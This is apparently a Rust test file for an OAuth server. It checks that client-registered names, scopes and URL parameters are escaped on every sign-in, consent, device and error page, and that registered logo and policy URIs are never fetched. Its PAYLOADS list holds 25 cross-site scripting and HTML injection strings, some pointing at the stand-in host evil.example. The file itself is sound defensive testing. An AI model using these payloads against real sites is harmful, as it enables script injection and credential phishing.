//! threats.md B28: text of strangers stays text on every page (RFC 6749 section 10.14, RFC 9700 section 4.16). A page with
//! such a text has the same marks of HTML as one with a plain text; a real browser looks at some of them in `chromium`.

use serde_json::{Value, json};

use super::WEB;
use crate::device::{DEVICE_CODE, Device, ON};
use crate::support::TestIssuer;
use crate::support::database::TestDatabase;
use crate::support::person::{Person, Shown, authorize};

/// What runs, loads or breaks out where text is taken for HTML.
const PAYLOADS: [&str; 25] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<style>@import 'http://evil.example/x'</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>Allow</button>",
    "<input name=decision value=allow>",
    "<button formaction=//evil.example>Allow</button>",
    "</title><h1>x",
    "</main></body>",
    "<!--",
    "<![CDATA[",
    "<?php ",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\"><b>",
    "'><b>",
    "&lt;b&gt;",
    "&#60;b&#62;",
    "{{ name }}{% include \"x\" %}",
    "${alert(1)}`",
    "\u{ff1c}script\u{ff1e}<\u{7f}b>",
];

/// The texts: every payload in twenty places.
fn texts() -> Vec<String> {
    let around = [
        ("", ""),
        ("a ", ""),
        ("", " b"),
        ("\"", "\""),
        ("'", "'"),
        (">", "<"),
        ("-->", ""),
        ("&", ";"),
        ("\u{202e}", ""),
        ("\u{200b}", "\u{200b}"),
        ("\n", "\n"),
        ("\t", "\r"),
        ("<", ">"),
        ("</p>", ""),
        ("<p ", ">"),
        ("=", ""),
        ("%3C", "%3E"),
        ("\\", "\\"),
        ("<<", ">>"),
        ("\u{1b}[2J", ""),
    ];
    let all = PAYLOADS
        .iter()
        .flat_map(|payload| around.map(|(before, after)| format!("{before}{payload}{after}")));
    all.collect()
}

/// How many marks a page has of which HTML is made, and its policy; the same for any text.
fn marks(page: &Shown) -> [usize; 4] {
    let policy = page.header("content-security-policy");
    assert!(
        policy.starts_with("default-src 'none'") && policy.contains("frame-ancestors 'none'"),
        "{policy}"
    );
    assert_eq!(page.header("x-content-type-options"), "nosniff");
    ["<", ">", "\"", "'"].map(|mark| page.text.matches(mark).count())
}

async fn register(issuer: &TestIssuer, text: &str) -> Value {
    let metadata = json!({"redirect_uris": [WEB], "client_name": text, "scope": text, "contacts": [text],
        "software_id": text, "software_version": text, "application_type": text,
        "grant_types": ["authorization_code", DEVICE_CODE]});
    let request = issuer.request("POST", "/oauth/register").json(&metadata);
    request.send().await.unwrap().json().await.unwrap()
}

fn encoded(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

/// The pages on which the text stands, or may: sign-in, consent, a redirect URI that is not registered, an unknown client, a hint
/// at the sign-in, the help, what is no request, and the pages for codes of other machines.
async fn pages(issuer: &TestIssuer, alex: &mut Person, text: &str) -> Vec<Shown> {
    let client = register(issuer, text).await;
    let client_id = client.get("client_id").and_then(Value::as_str).unwrap();
    // A hint is one line; else the request is refused.
    let hint = encoded(if text.chars().any(char::is_control) {
        "plain"
    } else {
        text
    });
    let text = encoded(text);
    let links = [
        authorize(client_id, WEB, &format!("&login_hint={hint}&ui_locales={text}")),
        format!("/oauth/authorize?response_type=code&client_id={client_id}&redirect_uri={text}"),
        format!("/oauth/authorize?response_type=code&client_id={text}&redirect_uri={text}"),
        format!("/sign-in?request={text}&username={text}"),
        format!("/help/errors/{text}"),
        format!("/sign-in?device={text}"),
        format!("/device?user_code={text}"),
        format!("/device?waiting={text}"),
        format!("/setup?link={text}"),
        format!("/oauth/end-session?client_id={text}&post_logout_redirect_uri={text}&state={text}"),
    ];
    let mut pages = vec![issuer.person().visit(&links[0]).await];
    for link in links {
        pages.push(alex.visit(&link).await);
    }
    let device = Device::begin(issuer, client_id, &[]).await;
    let page = alex.type_code(&device.user_code).await;
    assert!(page.title().starts_with("Allow"), "{}", page.text);
    pages.push(page);
    pages
}

#[actix_web::test]
async fn five_hundred_texts_in_every_place_are_text() {
    let issuer = TestIssuer::with(TestDatabase::of_this_run(), &ON).await;
    issuer.account("alex").await;
    let mut alex = issuer.signed_in_person("alex").await;
    let plain = pages(&issuer, &mut alex, "plain").await;
    let titles = [plain[0].title(), plain[1].title()];
    assert!(
        titles[0].starts_with("Sign in") && titles[1].starts_with("Allow"),
        "{titles:?}"
    );
    let expected: Vec<_> = plain.iter().map(marks).collect();
    let texts = texts();
    assert_eq!(texts.len(), 500);
    for text in texts {
        let pages = pages(&issuer, &mut alex, &text).await;
        let found: Vec<_> = pages.iter().map(marks).collect();
        for (at, (found, expected)) in found.iter().zip(&expected).enumerate() {
            assert_eq!(
                found,
                expected,
                "page {at} of {text:?}: {} {}",
                pages[at].location(),
                pages[at].text
            );
        }
    }
}

/// Links are kept as they are, and shown nowhere.
#[actix_web::test]
async fn links_that_a_client_registers_stand_on_no_page_and_are_asked_for_by_nobody() {
    let server = crate::support::documents::DocumentServer::start();
    let issuer = TestIssuer::with(
        crate::support::database::TestDatabase::of_this_run(),
        &[crate::support::documents::LOOPBACK],
    )
    .await;
    issuer.account("alex").await;
    let mut alex = issuer.signed_in_person("alex").await;
    let mut document = json!({"client_id": server.client_id("/client"), "redirect_uris": [WEB]});
    for name in ["logo_uri", "client_uri", "tos_uri", "policy_uri"] {
        document[name] = json!(server.client_id(&format!("/{name}")));
    }
    server.serve("/client", crate::support::documents::Served::json(&document, &[]));
    let request = issuer.request("POST", "/oauth/register").json(&document);
    let registered: Value = request.send().await.unwrap().json().await.unwrap();
    for client_id in [
        server.client_id("/client"),
        registered["client_id"].as_str().unwrap().to_owned(),
    ] {
        let page = alex.visit(&authorize(&client_id, WEB, "")).await;
        assert!(page.title().starts_with("Allow"), "{}", page.text);
        assert!(
            !page.text.contains("_uri\"") && !page.text.contains("<img"),
            "{}",
            page.text
        );
        assert_eq!(alex.decide(&page, "allow").await.status, 303);
        let account = alex.visit("/account").await;
        assert!(!account.text.contains("logo_uri") && !account.text.contains("<img"));
    }
    assert_eq!(server.asked_in_all(), 1, "the document alone");
}
